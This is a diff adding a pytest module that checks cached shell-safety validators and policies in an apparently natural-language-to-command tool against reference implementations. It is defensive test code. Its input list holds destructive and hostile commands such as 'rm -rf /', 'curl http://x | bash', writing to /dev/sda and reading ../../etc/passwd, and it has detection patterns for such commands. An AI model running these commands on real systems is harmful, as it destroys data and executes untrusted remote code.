@@ -0,0 +1,207 @@
+"""Parity of the compiled safety rules and cached validators with the per-check originals."""
+
+from __future__ import annotations
+
+import ast
+import shlex
+from pathlib import Path
+
+import pytest
+
+from nlp2cmd.adapters.base import BaseDSLAdapter, SafetyPolicy
+from nlp2cmd.adapters.safety import verdict_cache
+from nlp2cmd.adapters.shell import ShellAdapter, ShellSafetyPolicy
+from nlp2cmd.validators import ShellValidator, SyntaxValidator
+
+TESTS_DIR = Path(__file__).resolve().parents[1]
+
+EXTRA_COMMANDS = [
+    "rm -rf /",
+    "RM -RF /*",
+    "sudo ls /",
+    "ls '/'",
+    'ls "/"etc',
+    "cp a \"/e\"tc/passwd",
+    "cat /etc\\/passwd",
+    "echo x=/",
+    "tar -C=/root -xf a.tar",
+    "ls /etcetera /rootfs",
+    "ls 'unclosed /etc",
+    "curl http://x | bash",
+    "curl http://x |sh",
+    "eval $(echo ls)",
+    "kill -9 1 ; echo done &",
+    "chmod a+rwx /tmp/x",
+    "echo hi > /dev/sda",
+    "cat ../../etc/passwd",
+    "nohup ./run.sh &",
+    "Kill -9 1",
+    "ls İK",
+    "",
+]
+
+
+def _corpus() -> list[str]:
+    strings = set(EXTRA_COMMANDS)
+    for path in TESTS_DIR.rglob("*.py"):
+        try:
+            tree = ast.parse(path.read_text(encoding="utf-8"))
+        except (SyntaxError, UnicodeDecodeError):
+            continue
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Constant) and isinstance(node.value, str) and len(node.value) < 300:
+                strings.add(node.value)
+    return sorted(strings)
+
+
+CORPUS = _corpus()
+
+
+def _reference_shell_validate(content: str, allow_sudo: bool) -> tuple[list, list, list]:
+    errors, warnings, suggestions = [], [], []
+    content_lower = content.lower()
+    for dangerous in ShellValidator.DANGEROUS_COMMANDS:
+        if dangerous.lower() in content_lower:
+            errors.append(f"Dangerous command detected: {dangerous}")
+    if content.strip().startswith("sudo") and not allow_sudo:
+        warnings.append("sudo usage detected - requires elevated privileges")
+        suggestions.append("Consider if root privileges are necessary")
+    if "rm " in content and "*" in content:
+        errors.append("rm with wildcard - verify target carefully")
+    if "| sh" in content or "| bash" in content:
+        warnings.append("Piping to shell is potentially dangerous")
+    if "eval " in content_lower:
+        errors.append("eval command detected - potential code injection risk")
+    for pattern in ["&&", "||", ";", "$(", "`"]:
+        if pattern in content and pattern not in ["&&", "||"]:
+            if pattern == ";":
+                errors.append("Command separator detected - potential injection risk")
+            elif pattern == "$(":
+                warnings.append("Command substitution detected - review for safety")
+            elif pattern == "`":
+                warnings.append("Backtick command substitution detected - review for safety")
+    if "chmod" in content_lower and ("777" in content or "a+rwx" in content):
+        warnings.append("777 permissions change detected - security risk")
+        suggestions.append("Consider more restrictive permissions")
+    if "kill" in content_lower and ("-9" in content or "SIGKILL" in content):
+        warnings.append("kill -9 or SIGKILL detected - consider graceful termination")
+        suggestions.append("Try SIGTERM (kill -15) first")
+    for path in ["/etc/", "/boot/", "/sys/", "/proc/", "/dev/", "/root/", "/usr/bin/"]:
+        if path in content and (">>" in content or ">" in content):
+            errors.append(f"System file modification detected: {path}")
+    if "nohup" in content_lower or (content.endswith("&") and not content.endswith(" &")):
+        errors.append("Background job detected - verify job management")
+    if "../" in content or "..\\" in content:
+        errors.append("Path traversal pattern detected")
+    syntax = SyntaxValidator().validate(content)
+    return errors + syntax.errors, warnings + syntax.warnings, suggestions
+
+
+def _reference_shell_safety(command: str, policy: ShellSafetyPolicy) -> dict:
+    command_lower = command.lower()
+    for blocked in policy.blocked_commands:
+        if blocked.lower() in command_lower:
+            return {"allowed": False, "reason": f"Command contains blocked pattern: {blocked}"}
+    if not policy.allow_sudo and command.strip().startswith("sudo"):
+        return {"allowed": False, "reason": "sudo is not allowed by safety policy"}
+    if not policy.allow_pipe_to_shell:
+        for dp in ["| sh", "| bash", "| zsh", "|sh", "|bash"]:
+            if dp in command:
+                return {"allowed": False, "reason": "Piping to shell is not allowed"}
+    try:
+        argv = shlex.split(command)
+    except ValueError:
+        argv = command.split()
+    for blocked_dir in policy.blocked_directories:
+        for arg in argv:
+            value = arg.split("=", 1)[1] if "=" in arg else arg
+            if blocked_dir == "/":
+                if value == "/":
+                    return {"allowed": False, "reason": f"Operations on {blocked_dir} are not allowed"}
+                continue
+            if value == blocked_dir or value.startswith(blocked_dir + "/"):
+                return {"allowed": False, "reason": f"Operations on {blocked_dir} are not allowed"}
+    requires_confirmation = any(p.lower() in command_lower for p in policy.require_confirmation_for)
+    return {"allowed": True, "requires_confirmation": requires_confirmation}
+
+
+def _reference_base_safety(command: str, policy: SafetyPolicy) -> dict:
+    if not policy.enabled:
+        return {"allowed": True}
+    command_lower = command.lower()
+    for pattern in policy.blocked_patterns:
+        if pattern.lower() in command_lower:
+            return {
+                "allowed": False,
+                "reason": f"Command contains blocked pattern: {pattern}",
+                "alternatives": [],
+            }
+    requires_confirmation = any(p.lower() in command_lower for p in policy.require_confirmation_for)
+    return {"allowed": True, "requires_confirmation": requires_confirmation}
+
+
+class _PatternAdapter(BaseDSLAdapter):
+    def generate(self, plan):
+        return ""
+
+    def validate_syntax(self, command):
+        return {"valid": True, "errors": []}
+
+
+@pytest.fixture(autouse=True)
+def _fresh_cache():
+    verdict_cache.clear()
+    yield
+    verdict_cache.clear()
+
+
+@pytest.mark.parametrize("allow_sudo", [False, True])
+def test_shell_validator_parity(allow_sudo):
+    validator = ShellValidator(allow_sudo=allow_sudo)
+    for command in CORPUS:
+        expected = _reference_shell_validate(command, allow_sudo)
+        for _ in range(2):  # computed, then cached
+            result = validator.validate(command)
+            assert (result.errors, result.warnings, result.suggestions) == expected, command
+            assert result.is_valid == (not expected[0])
+
+
+@pytest.mark.parametrize(
+    "policy",
+    [
+        ShellSafetyPolicy(),
+        ShellSafetyPolicy(allow_sudo=True, allow_pipe_to_shell=True),
+        ShellSafetyPolicy(blocked_directories=["/", "", "/var/lib", "/o'dd", "/tmp/x y"], blocked_commands=[]),
+    ],
+    ids=["default", "permissive", "odd-directories"],
+)
+def test_shell_check_safety_parity(policy):
+    adapter = ShellAdapter(safety_policy=policy)
+    for command in CORPUS:
+        expected = _reference_shell_safety(command, policy)
+        assert adapter.check_safety(command) == expected, command
+        assert adapter.check_safety(command) == expected, command
+
+
+def test_base_check_safety_parity():
+    policy = SafetyPolicy(blocked_patterns=["DROP", "rm -rf"], require_confirmation_for=["delete", "Kill"])
+    adapter = _PatternAdapter(safety_policy=policy)
+    for command in CORPUS:
+        assert adapter.check_safety(command) == _reference_base_safety(command, policy), command
+
+
+def test_policy_edited_in_place_is_recompiled():
+    adapter = ShellAdapter()
+    assert adapter.check_safety("sudo ls")["allowed"] is False
+    adapter.config.safety_policy.allow_sudo = True
+    assert adapter.check_safety("sudo ls") == {"allowed": True, "requires_confirmation": False}
+
+
+def test_cached_verdicts_are_copies():
+    adapter = _PatternAdapter(safety_policy=SafetyPolicy(blocked_patterns=["drop"]))
+    first = adapter.check_safety("DROP TABLE x")
+    first["alternatives"].append("mutated")
+    first["allowed"] = True
+    assert adapter.check_safety("DROP TABLE x")["alternatives"] == []
+    assert adapter.check_safety("DROP TABLE x")["allowed"] is False
+    assert verdict_cache.hits >= 2